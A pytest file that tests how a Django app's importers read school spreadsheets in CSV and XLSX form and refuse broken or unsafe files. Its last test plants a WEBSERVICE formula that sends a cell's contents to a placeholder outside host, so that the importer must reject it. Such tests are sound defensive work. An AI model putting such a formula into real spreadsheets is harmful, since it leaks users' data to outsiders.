"""Each importer, and each way in which an office's spreadsheet may have written its table."""

import datetime

import openpyxl
import pytest

from tests.importing.importers import refusal
from tests.importing.spreadsheets import as_csv, as_xlsx, bytes_of, fill, typed

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("_two_schools")]
DAY = datetime.date(2024, 9, 2)


class TestATable:
    @pytest.mark.parametrize("divider", [",", ";", "\t"])
    def test_is_read_whatever_divides_its_columns(self, take, case, divider):
        outcome = take(case, as_csv([case.row], divider=divider))

        assert (outcome.new, outcome.warnings) == (1, [])

    @pytest.mark.parametrize("divider", [",", ";", "\t", "|"])
    def test_is_read_where_it_says_what_divides_them(self, take, case, divider):
        before = f"sep={divider}\r\n"

        assert take(case, as_csv([case.row], divider=divider, before=before)).new == 1

    @pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
    def test_is_read_in_every_encoding(self, take, case, end, encoding):
        assert take(case, as_csv([case.row], end=end).encode(encoding)).new == 1

    @pytest.mark.parametrize(
        "write",
        [
            str.upper,
            str.title,
            lambda heading: heading.replace("_", " "),
            lambda heading: f" {heading} ",
            lambda heading: heading.replace(" ", "\u00a0").replace("_", "-"),
            lambda heading: f"{heading}:",
        ],
    )
    def test_is_read_with_its_headings_written_otherwise(self, take, case, write):
        row = {write(heading): cell for heading, cell in case.row.items()}

        outcome = take(case, as_csv([row]))

        assert (outcome.new, outcome.warnings) == (1, [])

    @pytest.mark.parametrize(
        "before", ["Autumn 2024\r\n", "Autumn 2024,,,,\r\n,,,\r\n", "Printed,26/11/2026\r\n\r\n"]
    )
    def test_may_have_a_title(self, take, case, before):
        assert take(case, as_csv([case.row], before=before)).new == 1

    def test_has_no_values_above_its_headings(self, take, case):
        values = as_csv([case.row]).partition("\r\n")[2]

        (fault,) = refusal(take, case, as_csv([case.row], before=values * 2))

        assert fault[0] == 3
        assert "the headings are in line 3" in fault[3]

    def test_names_a_missing_column_where_the_headings_are(self, take, case):
        row = {name: cell for name, cell in case.row.items() if name != next(iter(case.row))}

        (fault,) = refusal(take, case, as_csv([row], before="Autumn\r\n"))

        assert fault[:2] == (2, next(iter(case.row)))
        assert "add it to the headings, which are in line 2" in fault[3]

    @pytest.mark.parametrize("blank", [",,,,\r\n", "\r\n", " , ,\t\r\n", '"",""\r\n'])
    def test_may_have_blank_rows(self, take, case, blank):
        outcome = take(case, as_csv([case.row], after=blank * 3))

        assert (outcome.new, outcome.warnings) == (1, [])

    def test_may_have_empty_columns_at_its_right(self, take, case):
        text = as_csv([case.row]).replace("\r\n", ",,\r\n")

        assert take(case, text).new == 1


class TestAWorkbook:
    def test_is_read_as_text(self, take, case):
        assert take(case, as_xlsx([case.row]), name="t.xlsx").new == 1

    def test_is_read_with_days_and_numbers(self, take, case):
        outcome = take(case, as_xlsx([typed(case.on("2024-09-02"))]), name="t.xlsx")

        assert (outcome.new, outcome.warnings) == (1, [])
        assert case.seen() == DAY

    @pytest.mark.parametrize(
        ("epoch", "number"),
        [
            (openpyxl.utils.datetime.WINDOWS_EPOCH, 45537),
            (openpyxl.utils.datetime.MAC_EPOCH, 44075),
        ],
    )
    def test_is_read_with_days_that_it_shows_as_numbers(self, take, case, epoch, number):
        take(case, as_xlsx([case.row | {case.day: number}], epoch=epoch), name="t.xlsx")

        assert case.seen() == DAY

    def test_may_have_a_title_and_blank_rows(self, take, case):
        content = as_xlsx([case.row], above=[["Autumn 2024"], []])

        assert take(case, content, name="t.xlsx").new == 1

    def test_gives_the_row_of_the_sheet_as_the_line(self, take, ours):
        content = as_xlsx([ours.on("never")], above=[["Autumn"], []])

        assert [fault[:3] for fault in refusal(take, ours, content)] == [(4, ours.day, "never")]

    def test_may_have_other_sheets(self, take, case):
        book = openpyxl.Workbook()
        book.active.append(["Notes", "for", "the", "office"])
        fill(book.create_sheet(), [case.row], title="Data")

        assert take(case, bytes_of(book)).new == 1

    def test_has_one_such_table(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="2024")
        fill(book.create_sheet(), [case.row], title="2025")

        (fault,) = refusal(take, case, bytes_of(book))

        assert "several such tables" in fault[3]

    def test_is_not_read_in_sheets_that_nobody_sees(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="2024")
        hidden = book.create_sheet()
        fill(hidden, [case.row], title="2025")
        hidden.sheet_state = "hidden"

        assert take(case, bytes_of(book)).new == 1

    @pytest.mark.parametrize(
        ("content", "words"),
        [
            (b"PK\x03\x04 and no more", "this file is broken"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "of the old kind (.xls)"),
        ],
    )
    def test_that_cannot_be_read_is_refused(self, take, case, content, words):
        (fault,) = refusal(take, case, content)

        assert words in fault[3]

    def test_with_macros_is_refused_at_the_command_too(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="Data")
        book.active["Z9"] = '=WEBSERVICE("https://x.example/"&A1)'

        (fault,) = refusal(take, case, bytes_of(book))

        assert "macros or other parts" in fault[3]
